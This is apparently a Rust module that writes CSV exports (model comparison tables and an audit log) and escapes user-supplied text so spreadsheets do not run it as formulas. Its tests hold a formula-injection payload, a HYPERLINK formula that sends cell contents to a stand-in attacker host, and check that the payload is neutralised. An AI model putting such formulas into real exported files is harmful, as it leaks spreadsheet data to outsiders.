//! Every CSV file that leaves the program: comma-separated values (RFC 4180), UTF-8, one header line. The
//! columns are described in docs/formats.md.
//!
//! No other module may create a `csv::Writer` (a test reads the source): [`Table`] guards text that a
//! spreadsheet would run as a formula.

use std::{fmt::Display, io::Write};

use model::{
    audit::{Entry, Via},
    lang::Lang,
    ratings::Comparison,
};

use base::{error::Failure, formulas};

/// The byte order mark, by which Excel recognizes UTF-8. Written on request only: other programs read it as part of the
/// first column's name.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A CSV file, written cell by cell.
pub struct Table<W: Write>(csv::Writer<W>);

impl<W: Write> Table<W> {
    /// A table with its header line.
    ///
    /// # Errors
    ///
    /// Fails if `out` cannot be written.
    pub fn new<'a>(out: W, head: impl IntoIterator<Item = &'a str>) -> Result<Self, Failure> {
        let mut table = Table(csv::WriterBuilder::new().flexible(false).from_writer(out));
        for name in head {
            table.text(name)?;
        }
        table.end_line()?;
        Ok(table)
    }

    /// A cell with text chosen by a person, a file or a model.
    ///
    /// # Errors
    ///
    /// Fails if the file cannot be written.
    pub fn text(&mut self, text: &str) -> Result<(), Failure> {
        self.0.write_field(formulas::guarded(text).as_bytes()).map_err(Failure::internal)
    }

    /// A cell with a number, a time or a word of ours, which may begin with a minus sign.
    ///
    /// # Errors
    ///
    /// Fails if the file cannot be written.
    pub fn value(&mut self, value: impl Display) -> Result<(), Failure> {
        self.0.write_field(value.to_string()).map_err(Failure::internal)
    }

    /// As [`Table::value`]; empty for `None`.
    ///
    /// # Errors
    ///
    /// Fails if the file cannot be written.
    pub fn optional(&mut self, value: Option<impl Display>) -> Result<(), Failure> {
        match value {
            Some(value) => self.value(value),
            None => self.0.write_field("").map_err(Failure::internal),
        }
    }

    /// Ends the line.
    ///
    /// # Errors
    ///
    /// Fails if the file cannot be written, or the line has a different number of cells than the header.
    pub fn end_line(&mut self) -> Result<(), Failure> {
        self.0.write_record(None::<&[u8]>).map_err(Failure::internal)
    }

    /// Flushes the buffer.
    ///
    /// # Errors
    ///
    /// Fails if the file cannot be written.
    pub fn finish(mut self) -> Result<(), Failure> {
        Ok(self.0.flush()?)
    }
}

/// The comparison's table: a line for each model and dimension.
pub fn comparison(comparison: &Comparison) -> Result<Vec<u8>, Failure> {
    let mut bytes = Vec::new();
    let mut table = Table::new(
        &mut bytes,
        [
            "model",
            "dimension",
            "name",
            "ratings",
            "tasks",
            "mean",
            "ci95_low",
            "ci95_high",
            "own_mean",
            "own_ci95_low",
            "own_ci95_high",
            "distribution",
            "resamples",
            "seed",
        ],
    )?;
    for model in &comparison.models {
        for (scores, dimension) in model.dimensions.iter().zip(&comparison.rubric.dimensions) {
            let (low, _) = dimension.range();
            let distribution: Vec<_> =
                (low..).zip(&scores.distribution).map(|(score, n)| format!("{score}:{n}")).collect();
            table.text(&model.model)?;
            table.text(&dimension.key)?;
            table.text(dimension.name.get(Lang::En))?;
            table.value(model.ratings)?;
            table.value(model.tasks)?;
            table.optional(scores.mean)?;
            table.optional(scores.interval.map(|i| i.low))?;
            table.optional(scores.interval.map(|i| i.high))?;
            table.optional(scores.own_mean)?;
            table.optional(scores.own_interval.map(|i| i.low))?;
            table.optional(scores.own_interval.map(|i| i.high))?;
            table.value(distribution.join(" "))?;
            table.value(comparison.resamples)?;
            table.text(&comparison.seed)?;
            table.end_line()?;
        }
    }
    table.finish()?;
    Ok(bytes)
}

/// The audit log's table, a line for each entry.
pub struct Audit<W: Write>(Table<W>);

impl<W: Write> Audit<W> {
    /// A table with its header line.
    ///
    /// # Errors
    /// `out` cannot be written.
    pub fn new(out: W) -> Result<Self, Failure> {
        Ok(Audit(Table::new(out, ["id", "at", "person", "action", "object", "detail", "via", "token", "address"])?))
    }

    /// Adds an entry.
    ///
    /// # Errors
    /// The file cannot be written.
    pub fn entry(&mut self, entry: &Entry) -> Result<(), Failure> {
        let table = &mut self.0;
        table.value(entry.id)?;
        table.value(entry.at.rfc3339())?;
        table.text(entry.person.as_deref().unwrap_or_default())?;
        table.text(&entry.action)?;
        table.text(&entry.object)?;
        table.text(&entry.detail.to_string())?;
        table.value(entry.via.map(Via::name).unwrap_or_default())?;
        table.optional(entry.token)?;
        table.text(entry.address.as_deref().unwrap_or_default())?;
        table.end_line()
    }

    /// Writes out what is buffered.
    ///
    /// # Errors
    /// The file cannot be written.
    pub fn finish(self) -> Result<(), Failure> {
        self.0.finish()
    }
}

#[cfg(test)]
mod tests {
    use model::{
        audit_details::{Details, Fact},
        time::Timestamp,
    };

    use super::*;

    #[test]
    fn text_is_guarded_and_numbers_are_not() {
        let mut bytes = Vec::new();
        let mut table = Table::new(&mut bytes, ["=head", "b", "c"]).unwrap();
        table.text("=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")").unwrap();
        table.value(-1.5).unwrap();
        table.optional(None::<u8>).unwrap();
        table.end_line().unwrap();
        table.finish().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(text, "'=head,b,c\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",-1.5,\n");
    }

    #[test]
    fn the_audit_log_runs_no_formula() {
        let entry = Entry {
            id: 7,
            at: Timestamp(0),
            person: Some("=1+1".into()),
            action: "user.create".into(),
            object: "account =2".into(),
            detail: Details(vec![Fact::Label("=2".into())]),
            via: Some(Via::Token),
            token: Some(3),
            address: None,
        };
        let mut bytes = Vec::new();
        let mut table = Audit::new(&mut bytes).unwrap();
        table.entry(&entry).unwrap();
        table.finish().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let line = r#"7,1970-01-01T00:00:00Z,'=1+1,user.create,account =2,"[{""label"":""=2""}]",token,3,"#;
        assert_eq!(text, format!("id,at,person,action,object,detail,via,token,address\n{line}\n"));
    }
}
